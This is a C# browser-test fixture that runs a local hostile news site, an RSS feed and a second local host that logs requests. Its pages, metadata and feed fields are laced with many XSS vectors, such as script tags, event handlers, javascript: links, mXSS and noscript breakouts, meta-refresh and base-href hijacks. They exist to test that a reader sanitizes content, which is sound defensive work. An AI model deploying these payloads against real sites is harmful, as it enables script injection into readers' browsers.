using System.Collections.Concurrent;
using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace NewsDesk.Browser.Tests.Pages.Hostile;

/// <summary>
/// A news site on 127.0.0.1 whose feed and pages try to run script in the reader's browser (in the body, the
/// metadata and the feed's own fields), and a second host that must never be asked for anything: every payload that
/// could make the browser fetch points there, and every request it gets is recorded.
/// </summary>
public sealed class HostileSite : IAsyncDisposable
{
    private readonly WebApplication _site;
    private readonly WebApplication _elsewhere;

    private HostileSite(WebApplication site, WebApplication elsewhere)
    {
        _site = site;
        _elsewhere = elsewhere;
    }

    public string BaseUrl => Address(_site);

    /// <summary>The other host (another port is another origin to the browser); what it was asked for.</summary>
    public string ElsewhereUrl => Address(_elsewhere);
    public ConcurrentQueue<string> ElsewhereRequests { get; } = new();

    public const string FeedPath = "/feed.xml";
    public const int Articles = 6;

    public static async Task<HostileSite> StartAsync()
    {
        var elsewhere = Listen();
        var site = Listen();
        var hostile = new HostileSite(site, elsewhere);
        elsewhere.Run(context =>
        {
            hostile.ElsewhereRequests.Enqueue($"{context.Request.Path}{context.Request.QueryString} ({context.Request.Headers.UserAgent})");
            context.Response.ContentType = "text/javascript";
            return context.Response.WriteAsync("window.__pwned.push('script from elsewhere')");
        });
        await elsewhere.StartAsync();
        var evil = Address(elsewhere);
        site.MapGet(FeedPath, (HttpContext c) => Results.Text(Feed(BaseOf(c), evil), "application/rss+xml"));
        site.MapGet("/articles/{n:int}.html", (int n, HttpContext c) => Results.Text(Page(BaseOf(c), evil, n), "text/html; charset=utf-8"));
        await site.StartAsync();
        return hostile;
    }

    /// <summary>What each payload does when it runs: pushes to a list the test reads (and an alert, which Playwright sees).</summary>
    private static string Run(string what) => $"window.__pwned.push('{what}');alert('{what}')";

    private static string Payloads(string evil, string where)
    {
        string R(string what) => Run(where + " " + what);
        return string.Join('\n',
            "<script>" + R("script") + "</script>",
            "<script src=\"" + evil + "/payload.js\"></script>",
            "<img src=\"x:\" onerror=\"" + R("onerror") + "\">",
            "<img src=\"" + evil + "/pixel.png\" alt=\"tracking pixel\">",
            "<svg onload=\"" + R("svg onload") + "\"><script>" + R("svg script") + "</script></svg>",
            "<iframe src=\"" + evil + "/frame.html\" srcdoc=\"<script>parent.window.__pwned.push('srcdoc')</script>\"></iframe>",
            "<a href=\"javascript:" + R("javascript link") + "\" onmouseover=\"" + R("onmouseover") + "\">a link to hover</a>",
            "<a href=\"" + evil + "/link\" onfocus=\"" + R("onfocus") + "\" tabindex=\"1\">a link to focus</a>",
            "<div style=\"background:url(" + evil + "/style.png)\" onclick=\"" + R("onclick") + "\">a block to click</div>",
            "<style>@import url(\"" + evil + "/import.css\"); body { background: url(\"" + evil + "/bg.png\") }</style>",
            "<link rel=\"stylesheet\" href=\"" + evil + "/link.css\">",
            "<object data=\"" + evil + "/object.swf\"></object><embed src=\"" + evil + "/embed.swf\">",
            "<form action=\"" + evil + "/form\"><button formaction=\"javascript:" + R("formaction") + "\">go</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"" + R("mxss") + "\">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + R("noscript") + ">\"></noscript>",
            "<details open ontoggle=\"" + R("ontoggle") + "\">details</details>",
            "<video><source onerror=\"" + R("video") + "\"></video>",
            "\"><script>" + R("breakout") + "</script>");
    }

    private static string Page(string site, string evil, int n)
    {
        var title = WebUtility.HtmlEncode($"Hostile article {n} \"><img src=x onerror=\"{Run("title " + n)}\"><script>{Run("title script " + n)}</script>");
        var siteName = WebUtility.HtmlEncode("Hostile News <script>" + Run("site name") + "</script>");
        var author = WebUtility.HtmlEncode("<img src=x onerror=\"" + Run("author") + "\">");
        var jsonLd = "{\"@type\":\"NewsArticle\",\"headline\":\"Hostile " + n + " </script><script>" + Run("json-ld") + "</script>\",\"author\":{\"name\":\"<svg onload=" + Run("json-ld author") + ">\"}}";
        var day = 20 + (n % 10);
        var payloads = Payloads(evil, "body " + n);
        var quote = "A quoted <b onmouseover=\"" + Run("quote " + n) + "\">statement</b> with <a href=\"javascript:" + Run("quote link " + n) + "\">a link</a>.";
        return $$"""
            <!doctype html>
            <html><head>
            <meta charset="utf-8">
            <title>{{title}}</title>
            <meta property="og:title" content="{{title}}">
            <meta property="og:site_name" content="{{siteName}}">
            <meta name="author" content="{{author}}">
            <meta property="og:image" content="{{evil}}/og-image.png">
            <meta property="article:published_time" content="2026-11-{{day}}T10:00:00Z">
            <meta http-equiv="refresh" content="0;url={{evil}}/refresh">
            <base href="{{evil}}/">
            <link rel="canonical" href="{{site}}/articles/{{n}}.html">
            <script type="application/ld+json">{{jsonLd}}</script>
            </head><body>
            <nav><a href="/">Home</a></nav>
            <article>
            <h1>{{title}}</h1>
            <p>Paragraph one of hostile article {{n}}. The armed group said on Monday that it had taken the town, and the
            ministry denied it in a statement read on state television in the evening.</p>
            {{payloads}}
            <p>Paragraph two of hostile article {{n}}: the payloads above must all be inert text or gone, and this sentence
            must be readable on the page like any other.</p>
            <blockquote>{{quote}}</blockquote>
            </article>
            </body></html>
            """;
    }

    private static string Feed(string site, string evil)
    {
        var items = string.Join("", Enumerable.Range(1, Articles).Select(n =>
        {
            var title = WebUtility.HtmlEncode("Feed title " + n + " <img src=x onerror=\"" + Run("feed title " + n) + "\">");
            var author = WebUtility.HtmlEncode("<script>" + Run("feed author") + "</script>");
            var category = WebUtility.HtmlEncode("<svg onload=\"" + Run("feed category") + "\">");
            var description = Payloads(evil, "feed description " + n);
            var day = 20 + (n % 10);
            return $$"""
                <item>
                  <title>{{title}}</title>
                  <link>{{site}}/articles/{{n}}.html</link>
                  <guid>{{site}}/articles/{{n}}.html</guid>
                  <author>{{author}}</author>
                  <category>{{category}}</category>
                  <description><![CDATA[{{description}}]]></description>
                  <pubDate>Mon, {{day}} Nov 2026 10:00:00 GMT</pubDate>
                </item>
                """;
        }));
        var channel = WebUtility.HtmlEncode("Hostile feed <script>" + Run("feed channel") + "</script>");
        var channelDescription = "<img src=x onerror=\"" + Run("channel description") + "\">";
        return $$"""
            <?xml version="1.0" encoding="utf-8"?>
            <rss version="2.0"><channel>
            <title>{{channel}}</title>
            <link>{{site}}/</link>
            <description><![CDATA[{{channelDescription}}]]></description>
            <image><url>{{evil}}/feed-logo.png</url></image>
            {{items}}
            </channel></rss>
            """;
    }

    private static string Address(WebApplication app) =>
        app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.Single().TrimEnd('/');

    private static string BaseOf(HttpContext context) => $"{context.Request.Scheme}://{context.Request.Host}";

    private static WebApplication Listen()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        return builder.Build();
    }

    public async ValueTask DisposeAsync()
    {
        await _site.DisposeAsync();
        await _elsewhere.DisposeAsync();
    }
}
